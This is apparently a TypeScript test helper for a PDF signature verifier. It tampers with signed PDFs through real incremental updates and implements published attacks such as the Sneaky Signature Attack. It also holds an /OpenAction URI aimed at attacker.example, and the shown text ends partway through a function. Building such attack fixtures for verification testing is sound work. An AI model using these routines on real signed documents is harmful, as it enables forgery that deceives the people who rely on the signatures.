/**
 * Builds modified and attacked PDFs from Sidian's own signed files for the verification tests
 * (issue 3): every modification is a REAL incremental update written with the core's
 * IncrementalWriter (or, where an attack needs bytes no honest writer produces, written by hand
 * and said so), never a mock.
 *
 *   const pki = await createTestPki(makeTempDir());
 *   const signed = await signPdf(loadInput('classic-1.3'), { signer: pki.signer });
 *   const tampered = addPage(signed);                       // must verify 'disallowed'
 *   const filled = fillTextField(signedForm, 'applicant-name', 'Li Si');   // 'allowed'
 *
 * Three kinds of helpers:
 * - `Update`: one incremental update over the latest revision (edit, add, build);
 * - modifications a verifier must judge (pages, content, annotations, fonts, images, catalog, page
 *   tree; form filling, DSS, document timestamps, more signatures);
 * - attacks from the RUB papers (USF, SWA, ISA, shadow hide / replace / hide-and-replace). Several
 *   attacks are built cryptographically VALID (we hold the test key and sign exactly the bytes a
 *   lenient verifier would hash), so only the structural checks stand between them and "valid".
 *
 * Node-only test helper.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { buildCmsSignedData } from '../../packages/core/src/cms/signed-data';
import { buildSignedAttributes } from '../../packages/core/src/cms/attributes';
import { createCadesSignature } from '../../packages/core/src/cms/cades';
import { requestTimestamp, type TimestampTransport } from '../../packages/core/src/cms/tsa';
import { digestChunks } from '../../packages/core/src/digest';
import { PdfDocument, type PageInfo, type PdfView } from '../../packages/core/src/pdf/document';
import { decodeStream } from '../../packages/core/src/pdf/filters';
import {
  PdfDict,
  PdfName,
  PdfRaw,
  PdfRef,
  PdfStream,
  PdfString,
  latin1Bytes,
  type PdfObject,
} from '../../packages/core/src/pdf/objects';
import { indexOfBytes } from '../../packages/core/src/pdf/parser';
import { IncrementalWriter, serialize as serializeObject } from '../../packages/core/src/pdf/writer';
import { listFields } from '../../packages/core/src/sign/fields';
import { signerFromPkcs12 } from '../../packages/core/src/signer';
import type { Signer } from '../../packages/core/src/signer/types';
import { OID } from '../../packages/core/src/pki/oids';
import { parseDer } from '../../packages/core/src/pki/der';
import { IMAGES_DIR, INPUTS_DIR } from '../fixtures/paths';
import {
  createCa,
  issueCertificate,
  makePkcs12,
  openssl,
  type Ca,
  type Entity,
  type IssueOptions,
  type KeySpec,
} from '../helpers/openssl-pki';

const N = PdfName.of;

// ---------------------------------------------------------------------------------------------
// Test PKI and inputs
// ---------------------------------------------------------------------------------------------

export interface TestPki {
  dir: string;
  ca: Ca;
  leaf: Entity;
  p12: Uint8Array;
  password: string;
  signer: Signer;
}

/** A CA and a signing certificate (digitalSignature + nonRepudiation) with its PKCS#12, by openssl. */
export async function createTestPki(
  dir: string,
  options: { key?: KeySpec; leaf?: Partial<IssueOptions> } = {},
): Promise<TestPki> {
  const ca = createCa(dir, { key: options.key ?? 'p-256' });
  const leaf = issueCertificate(ca, {
    name: 'seal',
    subject: '/C=CN/O=四电测试局/CN=四电测试印章',
    key: options.key ?? 'p-256',
    ...options.leaf,
  });
  return pkiFor(dir, ca, leaf);
}

/** Packs an issued entity into a PKCS#12 and a Signer. */
export async function pkiFor(
  dir: string,
  ca: Ca,
  leaf: Entity,
  password = 'test-password',
): Promise<TestPki> {
  const p12 = makePkcs12(leaf, { password, chain: [ca] }).bytes;
  return { dir, ca, leaf, p12, password, signer: await signerFromPkcs12(p12, password) };
}

/**
 * A certificate with a chosen keyUsage (e.g. 'keyEncipherment' only), issued by `ca` through
 * `openssl ca` with our own extension section.
 */
export function issueWithKeyUsage(ca: Ca, name: string, keyUsage: string): Entity {
  const dir = path.join(path.dirname(ca.dir), name);
  const ext = path.join(path.dirname(ca.dir), `${name}-ext.cnf`);
  mkdirSync(dir, { recursive: true });
  writeFileSync(
    ext,
    `[ ext_custom ]\nbasicConstraints = critical, CA:FALSE\nkeyUsage = critical, ${keyUsage}\nsubjectKeyIdentifier = hash\nauthorityKeyIdentifier = keyid:always\n`,
  );
  const keyFile = path.join(dir, `${name}.key`);
  openssl([
    'genpkey',
    '-algorithm',
    'EC',
    '-pkeyopt',
    'ec_paramgen_curve:P-256',
    '-pkeyopt',
    'ec_param_enc:named_curve',
    '-out',
    keyFile,
  ]);
  const keyPkcs8 = new Uint8Array(
    openssl(['pkcs8', '-topk8', '-nocrypt', '-in', keyFile, '-outform', 'DER']),
  );
  const csr = path.join(dir, `${name}.csr`);
  const reqCnf = path.join(dir, 'req.cnf');
  writeFileSync(reqCnf, '[ req ]\ndistinguished_name = dn\nprompt = no\n[ dn ]\nCN = unused\n');
  const subject = `/C=CN/O=Sidian Test/CN=${name}`;
  openssl(['req', '-new', '-config', reqCnf, '-key', keyFile, '-subj', subject, '-out', csr]);
  const certFile = path.join(dir, `${name}.pem`);
  const start = new Date(Date.now() - 3600_000);
  const end = new Date(Date.now() + 365 * 86400_000);
  const d = (x: Date) =>
    x
      .toISOString()
      .replace(/[-:T]/g, '')
      .replace(/\.\d+Z$/, 'Z');
  openssl([
    'ca',
    '-batch',
    '-notext',
    '-config',
    ca.configFile,
    '-extfile',
    ext,
    '-extensions',
    'ext_custom',
    '-startdate',
    d(start),
    '-enddate',
    d(end),
    '-in',
    csr,
    '-out',
    certFile,
  ]);
  const certPem = readFileSync(certFile, 'utf8');
  const certDer = new Uint8Array(Buffer.from(certPem.replace(/-----[^-]+-----|\s+/g, ''), 'base64'));
  return { keySpec: 'p-256', keyFile, keyPkcs8, name, dir, subject, certFile, certPem, certDer, issuer: ca };
}

/** Revokes `cert` and returns a CRL signed by `ca` (PEM and DER), made with `openssl ca -gencrl`. */
export function revokeAndMakeCrl(ca: Ca, cert: Entity): { pem: string; der: Uint8Array } {
  openssl(['ca', '-config', ca.configFile, '-revoke', cert.certFile]);
  return makeCrl(ca);
}

/** The CA's current CRL (`openssl ca -gencrl`). */
export function makeCrl(ca: Ca): { pem: string; der: Uint8Array } {
  const crlFile = path.join(ca.dir, `crl-${Date.now()}-${Math.random().toString(36).slice(2)}.pem`);
  openssl(['ca', '-config', ca.configFile, '-gencrl', '-crldays', '30', '-out', crlFile]);
  const pem = readFileSync(crlFile, 'utf8');
  const der = new Uint8Array(openssl(['crl', '-in', crlFile, '-outform', 'DER']));
  return { pem, der };
}

export type InputName =
  | 'classic-1.3'
  | 'crlf-1.4'
  | 'objstm-1.5'
  | 'linearized'
  | 'hybrid'
  | 'acroform'
  | 'incremental-1.7'
  | 'five-pages'
  | 'nested-pages'
  | 'rotated'
  | 'pdf-2.0'
  | 'utf16-info'
  | 'offset-mediabox'
  | 'trailing-garbage';

/** A generated input PDF (tests/fixtures/pdfs.ts, cached under tests/.generated by the global setup). */
export function loadInput(name: InputName): Uint8Array {
  return new Uint8Array(readFileSync(path.join(INPUTS_DIR, `${name}.pdf`)));
}

export function loadSealPng(): Uint8Array {
  return new Uint8Array(readFileSync(path.join(IMAGES_DIR, 'seal.png')));
}

// ---------------------------------------------------------------------------------------------
// One incremental update
// ---------------------------------------------------------------------------------------------

export function concat(...parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let o = 0;
  for (const p of parts) {
    out.set(p, o);
    o += p.length;
  }
  return out;
}

/**
 * An incremental update over the latest revision of `pdf`. Objects taken with `edit*` are copies
 * (the same copy on every call) written back when the update is built.
 */
export class Update {
  readonly doc: PdfDocument;
  readonly view: PdfView;
  readonly w: IncrementalWriter;
  private readonly pending = new Map<number, { ref: PdfRef; value: PdfObject }>();

  constructor(readonly pdf: Uint8Array) {
    this.doc = PdfDocument.load(pdf);
    this.view = this.doc.latest;
    this.w = new IncrementalWriter(this.doc);
  }

  allocate(): PdfRef {
    return this.w.allocate();
  }

  add(value: PdfObject): PdfRef {
    const ref = this.w.allocate();
    this.set(ref, value);
    return ref;
  }

  /** Writes `value` as object `ref` (a new one, or a new version of an existing one). */
  set(ref: PdfRef, value: PdfObject): void {
    this.pending.set(ref.num, { ref, value });
  }

  /** The value this update will write for `ref`, else the current one. */
  current(ref: PdfRef): PdfObject | undefined {
    return this.pending.get(ref.num)?.value ?? this.view.get(ref.num);
  }

  /** A writable copy of the dictionary (or stream dictionary) object `ref`. */
  editDict(ref: PdfRef): PdfDict {
    const p = this.pending.get(ref.num);
    if (p) {
      if (p.value instanceof PdfDict) return p.value;
      if (p.value instanceof PdfStream) return p.value.dict;
    }
    const v = this.view.get(ref.num);
    if (v instanceof PdfStream) {
      const s = new PdfStream(v.dict.clone(), v.data);
      this.set(ref, s);
      return s.dict;
    }
    if (!(v instanceof PdfDict)) throw new Error(`object ${ref.num} is not a dictionary`);
    const d = v.clone();
    this.set(ref, d);
    return d;
  }

  /** A writable copy of the array object `ref`. */
  editArray(ref: PdfRef): PdfObject[] {
    const p = this.pending.get(ref.num);
    if (p && Array.isArray(p.value)) return p.value;
    const v = this.view.get(ref.num);
    if (!Array.isArray(v)) throw new Error(`object ${ref.num} is not an array`);
    const a = [...v];
    this.set(ref, a);
    return a;
  }

  catalog(): PdfDict {
    return this.editDict(this.view.rootRef);
  }

  pages(): PageInfo[] {
    return this.view.pages();
  }

  page(index = 0): PageInfo {
    const p = this.view.pages()[index];
    if (!p) throw new Error(`no page ${index + 1}`);
    return p;
  }

  /** Appends annotation `annot` to page `index`'s /Annots (inline or indirect array). */
  addAnnot(index: number, annot: PdfRef): void {
    const page = this.page(index);
    const cur = this.currentDict(page.ref).get('Annots');
    if (cur instanceof PdfRef) {
      this.editArray(cur).push(annot);
    } else {
      const pd = this.editDict(page.ref);
      pd.set('Annots', [...(Array.isArray(cur) ? cur : []), annot]);
    }
  }

  /** The writable interactive form dictionary (created in the catalog when missing). */
  acroForm(): PdfDict {
    const cat = this.currentDict(this.view.rootRef);
    const a = cat.get('AcroForm');
    if (a instanceof PdfRef) return this.editDict(a);
    const catW = this.catalog();
    const acro = a instanceof PdfDict ? a.clone() : new PdfDict();
    catW.set('AcroForm', acro);
    return acro;
  }

  /** Appends a field to /AcroForm /Fields. */
  addField(field: PdfRef): void {
    const acro = this.acroForm();
    const f = acro.get('Fields');
    if (f instanceof PdfRef) this.editArray(f).push(field);
    else acro.set('Fields', [...(Array.isArray(f) ? f : []), field]);
  }

  private currentDict(ref: PdfRef): PdfDict {
    const v = this.current(ref);
    if (v instanceof PdfDict) return v;
    if (v instanceof PdfStream) return v.dict;
    throw new Error(`object ${ref.num} is not a dictionary`);
  }

  /**
   * The objects this update would write, each as `n g obj ... endobj` text, for hand-written
   * updates (`rawUpdate`, `rawStreamUpdate`) that need what no honest writer produces.
   */
  rawEntries(): { num: number; body: string; gen?: number }[] {
    return [...this.pending.values()].map(({ ref, value }) => ({
      num: ref.num,
      gen: ref.gen,
      body: objectBody(ref, value),
    }));
  }

  /** The appended bytes and where each object landed (offsets relative to the update). */
  buildUpdate(): { bytes: Uint8Array; offsets: Map<number, number> } {
    for (const { ref, value } of this.pending.values()) this.w.set(ref, value);
    return this.w.build();
  }

  /** The whole new file: the input followed by this update. */
  build(): Uint8Array {
    return concat(this.pdf, this.buildUpdate().bytes);
  }
}

/** Runs `edit` in one incremental update of `pdf` and returns the updated file. */
export function update(pdf: Uint8Array, edit: (u: Update) => void): Uint8Array {
  const u = new Update(pdf);
  edit(u);
  return u.build();
}

function stream(content: string, dict: [string, PdfObject][] = []): PdfStream {
  return new PdfStream(new PdfDict(dict), latin1Bytes(content));
}

function formXObject(
  width: number,
  height: number,
  content: string,
  resources: PdfDict = new PdfDict(),
): PdfStream {
  return stream(content, [
    ['Type', N('XObject')],
    ['Subtype', N('Form')],
    ['BBox', [0, 0, width, height]],
    ['Resources', resources],
  ]);
}

/** An appearance: a white box of w x h with `text` in 20 pt Helvetica, covering what lies under it. */
function textBox(u: Update, w: number, h: number, text: string): PdfRef {
  const font = u.add(
    new PdfDict([
      ['Type', N('Font')],
      ['Subtype', N('Type1')],
      ['BaseFont', N('Helvetica')],
    ]),
  );
  return u.add(
    formXObject(
      w,
      h,
      `1 g 0 0 ${w} ${h} re f\nBT 0 g /Helv 20 Tf 10 30 Td (${text}) Tj ET\n`,
      new PdfDict([['Font', new PdfDict([['Helv', font]])]]),
    ),
  );
}

/** The decoded content of page `index` (all its content streams joined). */
export function pageContent(view: PdfView, index = 0): string {
  const page = view.pages()[index]!;
  const c = page.dict.get('Contents');
  const refs =
    c instanceof PdfRef && Array.isArray(view.get(c.num))
      ? (view.get(c.num) as PdfObject[])
      : Array.isArray(c)
        ? c
        : [c];
  let out = '';
  for (const r of refs) {
    const s = view.resolve(r as PdfObject);
    if (s instanceof PdfStream) out += new TextDecoder('latin1').decode(decodeStream(s)) + '\n';
  }
  return out;
}

/** The first content stream object of page `index`. */
export function firstContentRef(view: PdfView, index = 0): PdfRef {
  const c = view.pages()[index]!.dict.get('Contents');
  if (c instanceof PdfRef) {
    const v = view.get(c.num);
    if (v instanceof PdfStream) return c;
    if (Array.isArray(v) && v[0] instanceof PdfRef) return v[0];
  }
  if (Array.isArray(c) && c[0] instanceof PdfRef) return c[0];
  throw new Error('page has no indirect content stream');
}

// ---------------------------------------------------------------------------------------------
// Modifications that must be DISALLOWED after a signature
// ---------------------------------------------------------------------------------------------

/** Adds a page at the end of the document (the page tree root's /Kids and /Count change). */
export function addPage(pdf: Uint8Array): Uint8Array {
  return update(pdf, (u) => {
    const pagesRef = u.view.catalog().get('Pages') as PdfRef;
    const pages = u.editDict(pagesRef);
    const font = u.add(
      new PdfDict([
        ['Type', N('Font')],
        ['Subtype', N('Type1')],
        ['BaseFont', N('Helvetica')],
      ]),
    );
    const content = u.add(stream('BT /F1 24 Tf 72 700 Td (Added after signing: fee waived) Tj ET\n'));
    const page = u.add(
      new PdfDict([
        ['Type', N('Page')],
        ['Parent', pagesRef],
        ['MediaBox', [0, 0, 612, 792]],
        ['Resources', new PdfDict([['Font', new PdfDict([['F1', font]])]])],
        ['Contents', content],
      ]),
    );
    const kids = pages.get('Kids');
    if (kids instanceof PdfRef) u.editArray(kids).push(page);
    else pages.set('Kids', [...(kids as PdfObject[]), page]);
    pages.set('Count', (u.view.number(pages.get('Count')) ?? 0) + 1);
  });
}

/** Rewrites page `index`'s first content stream (same object number) with extra visible text. */
export function changeContentStream(pdf: Uint8Array, index = 0): Uint8Array {
  return update(pdf, (u) => {
    const ref = firstContentRef(u.view, index);
    const old = u.view.get(ref.num) as PdfStream;
    const text = new TextDecoder('latin1').decode(decodeStream(old));
    u.set(
      ref,
      stream(
        text.replace(/\(Sidian fixture: [^)]*\)/, '(AMOUNT: 1,000,000 CNY)') +
          '\nBT /F1 30 Tf 72 400 Td (PAID IN FULL) Tj ET\n',
      ),
    );
  });
}

/** Where the fixture's marker text sits on page 1 (a rectangle that covers it). */
export const MARKER_RECT = [60, 680, 560, 760];

/**
 * Adds an annotation over the page's content: an opaque white Square (covering the marker text)
 * or a FreeText with an opaque background and new text.
 */
export function addCoveringAnnotation(
  pdf: Uint8Array,
  kind: 'Square' | 'FreeText' | 'Text',
  index = 0,
): Uint8Array {
  return update(pdf, (u) => {
    const page = u.page(index);
    const [x0, y0, x1, y1] = MARKER_RECT as [number, number, number, number];
    const w = x1 - x0;
    const h = y1 - y0;
    let annot: PdfDict;
    if (kind === 'Square') {
      const ap = u.add(formXObject(w, h, `1 g 0 0 ${w} ${h} re f\n`));
      annot = new PdfDict([
        ['Type', N('Annot')],
        ['Subtype', N('Square')],
        ['Rect', [x0, y0, x1, y1]],
        ['C', [1, 1, 1]],
        ['IC', [1, 1, 1]],
        ['F', 4],
        ['P', page.ref],
        ['AP', new PdfDict([['N', ap]])],
      ]);
    } else if (kind === 'FreeText') {
      const ap = textBox(u, w, h, 'Sidian fixture: APPROVED');
      annot = new PdfDict([
        ['Type', N('Annot')],
        ['Subtype', N('FreeText')],
        ['Rect', [x0, y0, x1, y1]],
        ['Contents', PdfString.latin1('Sidian fixture: APPROVED')],
        ['DA', PdfString.latin1('/Helv 20 Tf 0 g')],
        ['C', [1, 1, 1]],
        ['F', 4],
        ['P', page.ref],
        ['AP', new PdfDict([['N', ap]])],
      ]);
    } else {
      // a sticky note: a comment, the annotation DocMDP P=3 is about
      annot = new PdfDict([
        ['Type', N('Annot')],
        ['Subtype', N('Text')],
        ['Rect', [500, 500, 520, 520]],
        ['Contents', PdfString.latin1('Reviewed')],
        ['F', 4],
        ['P', page.ref],
      ]);
    }
    u.addAnnot(index, u.add(annot));
  });
}

/** The font object named `/F1` (or the first font) of page `index`. */
export function pageFontRef(view: PdfView, index = 0): PdfRef {
  const res = view.dict(view.pages()[index]!.dict.get('Resources'));
  const fonts = view.dict(res?.get('Font'));
  if (!fonts) throw new Error('page has no fonts');
  const f = fonts.get('F1') ?? [...fonts.map.values()][0];
  if (!(f instanceof PdfRef)) throw new Error('font is not an indirect object');
  return f;
}

/** Replaces page `index`'s font object in place (same number) with another font. */
export function replaceFont(pdf: Uint8Array, index = 0): Uint8Array {
  return update(pdf, (u) => {
    const ref = pageFontRef(u.view, index);
    u.set(
      ref,
      new PdfDict([
        ['Type', N('Font')],
        ['Subtype', N('Type1')],
        ['BaseFont', N('ZapfDingbats')],
      ]),
    );
  });
}

/** Replaces the first image XObject of the document in place (e.g. the seal image) with a red square. */
export function replaceImage(pdf: Uint8Array): Uint8Array {
  return update(pdf, (u) => {
    // the seal image itself (the one with a soft mask) rather than its mask
    const images: { ref: PdfRef; masked: boolean }[] = [];
    for (const [num, e] of u.view.entries) {
      if (e.type === 0) continue;
      const v = u.view.get(num);
      if (v instanceof PdfStream && v.dict.name('Subtype') === 'Image')
        images.push({ ref: new PdfRef(num, e.type === 1 ? e.gen : 0), masked: v.dict.has('SMask') });
    }
    const target = (images.find((i) => i.masked) ?? images[0])?.ref;
    if (!target) throw new Error('no image in the document');
    const red = new Uint8Array(4 * 4 * 3);
    for (let i = 0; i < red.length; i += 3) red[i] = 255;
    u.set(
      target,
      new PdfStream(
        new PdfDict([
          ['Type', N('XObject')],
          ['Subtype', N('Image')],
          ['Width', 4],
          ['Height', 4],
          ['ColorSpace', N('DeviceRGB')],
          ['BitsPerComponent', 8],
        ]),
        red,
      ),
    );
  });
}

/** Adds an /OpenAction to the catalog (the catalog is rewritten). */
export function setOpenAction(pdf: Uint8Array): Uint8Array {
  return update(pdf, (u) => {
    u.catalog().set(
      'OpenAction',
      new PdfDict([
        ['S', N('URI')],
        ['URI', PdfString.latin1('https://attacker.example/')],
      ]),
    );
  });
}

/** Reverses the page order in the page tree root (the /Kids array is rewritten). */
export function reorderPages(pdf: Uint8Array): Uint8Array {
  return update(pdf, (u) => {
    const pagesRef = u.view.catalog().get('Pages') as PdfRef;
    const pages = u.editDict(pagesRef);
    const kids = pages.get('Kids');
    if (kids instanceof PdfRef) u.set(kids, [...(u.view.array(kids) ?? [])].reverse());
    else pages.set('Kids', [...(kids as PdfObject[])].reverse());
  });
}

/** Points the catalog's /Pages at a new page tree that leaves out the last page. */
export function replacePageTree(pdf: Uint8Array): Uint8Array {
  return update(pdf, (u) => {
    const pages = u.pages();
    const root = u.allocate();
    const kept = pages.length > 1 ? pages.slice(0, -1) : pages;
    const kids: PdfRef[] = [];
    for (const p of kept) {
      // new page objects (copies with inherited attributes made explicit) under the new root
      const d = p.dict.clone();
      d.set('Parent', root);
      d.set('MediaBox', [...p.mediaBox]);
      if (!d.has('Resources')) d.set('Resources', new PdfDict());
      kids.push(u.add(d));
    }
    u.set(
      root,
      new PdfDict([
        ['Type', N('Pages')],
        ['Kids', kids],
        ['Count', kids.length],
      ]),
    );
    u.catalog().set('Pages', root);
  });
}

// ---------------------------------------------------------------------------------------------
// Modifications that are ALLOWED after a signature
// ---------------------------------------------------------------------------------------------

/**
 * Fills text field `name`: a new /V and, on each widget, a new normal appearance stream drawing
 * the value (reusing the form's Helvetica from the signed revision, as viewers do).
 */
export function fillTextField(pdf: Uint8Array, name: string, value: string): Uint8Array {
  return update(pdf, (u) => {
    const field = listFields(u.view).find((f) => f.fullName === name);
    if (!field || !field.ref) throw new Error(`no field ${name}`);
    const fd = u.editDict(field.ref);
    fd.set('V', PdfString.latin1(value));
    const helv = acroFormFont(u.view);
    const res = new PdfDict(helv ? [['Font', new PdfDict([['Helv', helv]])]] : []);
    for (const wdg of field.widgets) {
      if (!wdg.ref) continue;
      const rect = (u.view.array(wdg.dict.get('Rect')) ?? [0, 0, 100, 20]).map((x) => u.view.number(x) ?? 0);
      const w = Math.abs(rect[2]! - rect[0]!);
      const h = Math.abs(rect[3]! - rect[1]!);
      const ap = u.add(
        formXObject(
          w,
          h,
          `0 0 0 RG 0.5 0.5 ${w - 1} ${h - 1} re S\n/Tx BMC\nq BT /Helv 12 Tf 0 g 3 ${(h - 9) / 2} Td (${value}) Tj ET Q\nEMC\n`,
          res,
        ),
      );
      const wd = wdg.ref.num === field.ref.num ? fd : u.editDict(wdg.ref);
      wd.set('AP', new PdfDict([['N', ap]]));
    }
  });
}

/** A font of the interactive form's default resources (/AcroForm /DR /Font). */
function acroFormFont(view: PdfView, name = 'Helv'): PdfObject | undefined {
  return view.dict(view.dict(view.dict(view.catalog().get('AcroForm'))?.get('DR'))?.get('Font'))?.get(name);
}

/** Adds a document security store (ETSI EN 319 142-1 §5.4.2): /DSS with /Certs and /CRLs streams. */
export function addDss(pdf: Uint8Array, data: { certs?: Uint8Array[]; crls?: Uint8Array[] }): Uint8Array {
  return update(pdf, (u) => {
    const dss = new PdfDict([['Type', N('DSS')]]);
    if (data.certs?.length)
      dss.set(
        'Certs',
        data.certs.map((c) => u.add(new PdfStream(new PdfDict(), c))),
      );
    if (data.crls?.length)
      dss.set(
        'CRLs',
        data.crls.map((c) => u.add(new PdfStream(new PdfDict(), c))),
      );
    u.catalog().set('DSS', u.add(dss));
  });
}

/** A TSA: the shim's URL or a transport. */
export type Tsa = string | TimestampTransport;

/** Adds a document timestamp (ETSI.RFC3161, /Type /DocTimeStamp) over the whole file: B-LTA's last step. */
export async function addDocumentTimestamp(
  pdf: Uint8Array,
  tsa: Tsa,
  options: { tamper?: (token: Uint8Array) => Uint8Array | Promise<Uint8Array>; field?: string } = {},
): Promise<Uint8Array> {
  const r = await appendSignature(pdf, {
    kind: 'doc-timestamp',
    field: options.field,
    produce: async (digest) => {
      const token = await requestTimestamp(tsa, digest, 'SHA-256');
      return options.tamper ? options.tamper(token) : token;
    },
  });
  return r.pdf;
}

/**
 * A signature dictionary's /Reference entry for a FieldMDP lock (ISO 32000-2 §12.8.2.4), for
 * `appendSignature`'s `extra`; or, with `asLock`, the same parameters as a field's /Lock dictionary.
 */
export function fieldMdp(action: 'All' | 'Include' | 'Exclude', fields: string[] = []): PdfObject[] {
  const params = fieldLockDict(action, fields, 'TransformParams');
  return [
    new PdfDict([
      ['Type', N('SigRef')],
      ['TransformMethod', N('FieldMDP')],
      ['TransformParams', params],
    ]),
  ];
}

export function fieldLockDict(
  action: 'All' | 'Include' | 'Exclude',
  fields: string[] = [],
  type = 'SigFieldLock',
): PdfDict {
  const d = new PdfDict([
    ['Type', N(type)],
    ['Action', N(action)],
  ]);
  if (action !== 'All')
    d.set(
      'Fields',
      fields.map((f) => PdfString.fromText(f)),
    );
  if (type === 'TransformParams') d.set('V', N('1.2'));
  return d;
}

/** Sets `key` of the field named `name` (a merged field and widget) in a new revision. */
export function setFieldEntry(pdf: Uint8Array, name: string, key: string, value: PdfObject): Uint8Array {
  const num = findObjectNum(pdf, (d) => {
    const t = d.get('T');
    return t instanceof PdfString && t.text() === name;
  });
  return update(pdf, (u) => u.editDict(new PdfRef(num, 0)).set(key, value));
}

/** Rewrites the last trailer of `pdf` (a classic table's) as `edit` says; offsets stay valid. */
export function editLastTrailer(pdf: Uint8Array, edit: (trailer: string) => string): Uint8Array {
  const s = Buffer.from(pdf).toString('latin1');
  const k = s.lastIndexOf('trailer');
  if (k < 0) throw new Error('no classic trailer');
  return new Uint8Array(Buffer.from(s.slice(0, k) + edit(s.slice(k)), 'latin1'));
}

/** One entry of a hand-written update: an object written in it, a free entry, or an entry pointing at an existing definition. */
export type RawEntry =
  | { num: number; body: string; gen?: number }
  | { num: number; free: true; gen?: number }
  | { num: number; offset: number; gen?: number };

/**
 * An incremental update written by hand with a classic table listing `entries` (one subsection
 * each): the bodies as given, so an object's `n g obj` header and its table entry can say anything.
 */
export function rawUpdate(
  pdf: Uint8Array,
  entries: RawEntry[],
  opts: { prev?: number; trailerExtra?: string } = {},
): Uint8Array {
  const doc = PdfDocument.load(pdf);
  let text = pdf[pdf.length - 1] === 0x0a ? '' : '\n';
  const rows: { num: number; line: string }[] = [];
  const row = (off: number, gen: number, kind: 'n' | 'f') =>
    `${String(off).padStart(10, '0')} ${String(gen).padStart(5, '0')} ${kind}\r\n`;
  for (const e of entries) {
    if ('body' in e) {
      rows.push({ num: e.num, line: row(pdf.length + text.length, e.gen ?? 0, 'n') });
      text += e.body;
    } else if ('free' in e) rows.push({ num: e.num, line: row(0, e.gen ?? 1, 'f') });
    else rows.push({ num: e.num, line: row(e.offset, e.gen ?? 0, 'n') });
  }
  rows.sort((a, b) => a.num - b.num);
  const xrefAt = pdf.length + text.length;
  const t = doc.latest.trailer;
  const ref = (k: string) =>
    t.get(k) instanceof PdfRef ? ` /${k} ${(t.get(k) as PdfRef).num} ${(t.get(k) as PdfRef).gen} R` : '';
  const size = Math.max(doc.latest.size, ...entries.map((e) => e.num + 1));
  text += `xref\n${rows.map((r) => `${r.num} 1\n${r.line}`).join('')}`;
  text += `trailer\n<< /Size ${size}${ref('Root')}${ref('Info')} /Prev ${opts.prev ?? doc.startxref}${opts.trailerExtra ?? ''} >>\n`;
  text += `startxref\n${xrefAt}\n%%EOF\n`;
  return concat(pdf, latin1Bytes(text));
}

/** The text of object `num` as it stands in `pdf` (from its `n g obj` to its `endobj`). */
export function objectText(pdf: Uint8Array, num: number): string {
  const off = findDefinition(pdf, num, 'last')!;
  const s = Buffer.from(pdf).toString('latin1');
  return s.slice(off, s.indexOf('endobj', off) + 6);
}

/**
 * How the widget of a sneaky signature is made: drawn over the page (`visible`), or in one of the
 * ways that draw nothing on screen (`hidden-flag`, `zero-rect`, `no-appearance`), or hidden on screen
 * but printed (`noview-flag`).
 */
export type SneakyWidget = 'visible' | 'noview-flag' | 'hidden-flag' | 'zero-rect' | 'no-appearance';

/**
 * The Sneaky Signature Attack (Mainka, Mladenov, Rohlmann, Schwenk, "Breaking the Specification: PDF
 * Certification", IEEE S&P 2021): after a certification that permits signing, a new signature (or
 * document timestamp) field whose widget's appearance is a white box with new text, laid over the
 * certified content at MARKER_RECT on page 1.
 */
export async function sneakySignature(
  pdf: Uint8Array,
  widget: SneakyWidget,
  produce: { kind: 'cms'; signer: Signer } | { kind: 'doc-timestamp'; tsa: Tsa },
): Promise<Uint8Array> {
  const r = await appendSignature(pdf, {
    kind: produce.kind,
    produce:
      produce.kind === 'cms'
        ? cadesProducer(produce.signer)
        : (digest) => requestTimestamp(produce.tsa, digest, 'SHA-256'),
    attach: false,
    edit: (u, sigRef) => addSneakyField(u, widget, sigRef),
  });
  return r.pdf;
}

/** The same widget as an empty (unsigned) signature field: an annotation in a signature field's clothes. */
export function emptySneakyField(pdf: Uint8Array, widget: SneakyWidget): Uint8Array {
  return update(pdf, (u) => addSneakyField(u, widget));
}

function addSneakyField(u: Update, widget: SneakyWidget, sigRef?: PdfRef): void {
  const page = u.page(0);
  const [x0, y0, x1, y1] = MARKER_RECT as [number, number, number, number];
  const flags = widget === 'hidden-flag' ? 4 | 2 : widget === 'noview-flag' ? 4 | 32 : 4;
  const field = new PdfDict([
    ['Type', N('Annot')],
    ['Subtype', N('Widget')],
    ['FT', N('Sig')],
    ['T', PdfString.fromText(`sneaky-${widget}-${++fieldCounter}`)],
    ['Rect', widget === 'zero-rect' ? [0, 0, 0, 0] : [x0, y0, x1, y1]],
    ['F', flags],
    ['P', page.ref],
  ]);
  if (sigRef) field.set('V', sigRef);
  if (widget !== 'no-appearance')
    field.set('AP', new PdfDict([['N', textBox(u, x1 - x0, y1 - y0, 'Sidian fixture: AMOUNT 1,000,000')]]));
  const ref = u.add(field);
  u.addAnnot(0, ref);
  u.addField(ref);
  u.acroForm().set('SigFlags', 3);
}

// ---------------------------------------------------------------------------------------------
// Writing a signature by hand (document timestamps, attacks)
// ---------------------------------------------------------------------------------------------

const BYTE_RANGE_PLACEHOLDER = '[0 ' + 'X'.repeat(14) + ' ' + 'X'.repeat(14) + ' ' + 'X'.repeat(14) + ']';
const CONTENTS_KEY = latin1Bytes('/Contents ');

export interface Layout {
  /** The honest ByteRange: everything but this dictionary's /Contents string. */
  byteRange: [number, number, number, number];
  /** Length of the final file. */
  total: number;
  /** Where this signature dictionary object starts and ends in the final file. */
  dictStart: number;
  dictEnd: number;
}

export interface SignatureSpec {
  kind: 'cms' | 'doc-timestamp';
  /** /Contents from the SHA-256 digest of the digested ranges. */
  produce: (digest: Uint8Array) => Promise<Uint8Array>;
  /** Field name (default unique). Set `attach: false` to write only the dictionary. */
  field?: string;
  attach?: boolean;
  /** Bytes reserved for /Contents (default 12 KiB). */
  contentsSize?: number;
  /** More entries in the signature dictionary (e.g. /Reference for DocMDP). */
  extra?: [string, PdfObject][];
  /** Further changes in the same update. */
  edit?: (u: Update, sigRef: PdfRef) => void;
  /**
   * Attacks: the ByteRange text to write (at most 47 characters) and the ranges actually digested,
   * given the honest layout. The digested ranges default to the ones the text names.
   */
  tamper?: (l: Layout) => { byteRangeText?: string; ranges?: [number, number][]; hexOffset?: number };
}

let fieldCounter = 0;

/** Adds a signature-field widget (merged, zero-size, on page 1) whose /V is `sigRef`. */
export function attachSignatureField(u: Update, sigRef: PdfRef, name: string, page = 0): PdfRef {
  const p = u.page(page);
  const field = u.add(
    new PdfDict([
      ['Type', N('Annot')],
      ['Subtype', N('Widget')],
      ['FT', N('Sig')],
